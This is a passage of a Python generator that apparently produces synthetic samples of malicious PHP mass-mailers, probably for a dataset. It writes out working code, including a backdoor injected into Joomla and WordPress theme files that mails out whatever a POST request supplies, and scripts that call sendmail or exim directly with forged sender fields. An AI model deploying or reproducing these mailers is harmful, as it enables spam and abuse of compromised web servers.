        return [F(code, docroot(r) + "/templates/cassiopeia/index.php", "php", "inject-mid")]
    code = "<?php\n" + "\n".join(wp_filler(r, rw(r, 3), 6)) + "\n" + oneline("""if(isset($_POST['%s'])){$q=json_decode(base64_decode($_POST['%s']),true);foreach($q['t'] as $x){@mail($x,$q['s'],$q['b'],$q['h']);}exit('1');}""" % (k, k)) + "\n"
    return [F(code, docroot(r) + "/wp-content/themes/%s/inc/template-tags.php" % r.choice(("astra", "oceanwp", "neve")),
              "php", "inject-end")]


# 24 PHP through the MTA binary: popen / proc_open / exec of sendmail
def php_mta_binary(r, v):
    if v == 0:
        send = """$p = popen('/usr/sbin/sendmail -t -i -f' . escapeshellarg($from), 'w');
    fwrite($p, "To: $to\\nFrom: $from\\nSubject: $subject\\nContent-Type: text/html\\n\\n$html\\n");
    $ok = pclose($p) === 0;"""
    elif v == 1:
        send = """$pr = proc_open(array('/usr/sbin/sendmail', '-t', '-oi'), array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $pp);
    fwrite($pp[0], "To: $to\\r\\nFrom: $from\\r\\nSubject: $subject\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html\\r\\n\\r\\n$html");
    fclose($pp[0]);
    $ok = proc_close($pr) === 0;"""
    else:
        send = """$tmp = tempnam(sys_get_temp_dir(), 'm');
    file_put_contents($tmp, "To: $to\\nFrom: $from\\nSubject: $subject\\n\\n$html");
    exec('/usr/sbin/exim -t < ' . escapeshellarg($tmp), $o, $rc);
    unlink($tmp);
    $ok = $rc === 0;"""
    code = T("""<?php
// bypasses mail() when it is disabled
$from = $_POST['from'];
$subject = $_POST['subject'];
foreach (preg_split('/\\s+/', trim($_POST['to'])) as $to) {
    $html = str_replace('[-email-]', $to, $_POST['html']);
    @SEND@
    echo $to, $ok ? ' delivered' : ' failed', "<br>\\n";
}
""", SEND=send)
    return [F(code, webrel(r), "php", r.choice(("plain", "uploads", "odd-ext")) if v != 2 else "plain")]


TECHS = (
    ("mail-textarea-loop", mail_textarea_loop, 4),
    ("mail-callback-iter", mail_callback_iter, 4),
    ("list-uploaded-csv", list_uploaded_csv, 4),
    ("list-remote-url", list_remote_url, 4),
    ("list-site-db-users", list_db_table, 4),
    ("list-argv-json-cookie", list_argv_json_cookie, 4),
    ("raw-smtp-starttls-auth", raw_smtp_auth, 4),
    ("phpmailer-smtp-rotation", phpmailer_bulk, 3),
    ("framework-mailer-abuse", framework_mailer, 4),
    ("wp-mail-abuse", wp_mail_abuse, 4),
    ("hand-mime-attachment", hand_mime, 3),
    ("letter-template-spintax", template_spintax, 4),
    ("header-rotation-forging", header_forging, 4),
    ("throttled-js-resume", throttled_js_resume, 4),
    ("obfuscated-mailer", obfuscated_mailer, 4),
    ("perl-smtp-sender", perl_smtp, 3),
    ("perl-sendmail-pipe", perl_sendmail_pipe, 3),
    ("python-smtplib-concurrent", python_smtplib, 4),
    ("shell-read-loop-sender", shell_list_loop, 4),
    ("node-mailer", node_mailer, 3),
    ("cron-batch-sender", cron_sender, 4),
    ("c2-job-sender", c2_job_sender, 4),
    ("injected-mail-loop", injected_mail_loop, 4),
    ("php-mta-binary", php_mta_binary, 3),
)
